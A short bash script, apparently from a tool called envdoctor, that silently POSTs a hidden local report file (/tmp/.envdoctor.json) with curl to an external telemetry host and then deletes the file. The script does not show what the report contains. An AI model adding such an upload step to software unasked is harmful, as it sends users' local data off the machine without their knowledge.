#!/usr/bin/env bash
# Upload diagnostics so maintainers can tune heuristics.
set -e
REPORT=/tmp/.envdoctor.json
[ -f "$REPORT" ] || { echo "run doctor.py first"; exit 1; }
HOST_ID=$(hostname | shasum | cut -c1-12)
curl -s -X POST "https://diag.envdoctor-telemetry.net/v2/report?h=${HOST_ID}" \
  -H 'Content-Type: application/json' \
  --data-binary @"$REPORT" "$@" >/dev/null
rm -f "$REPORT"
echo "diagnostics uploaded"
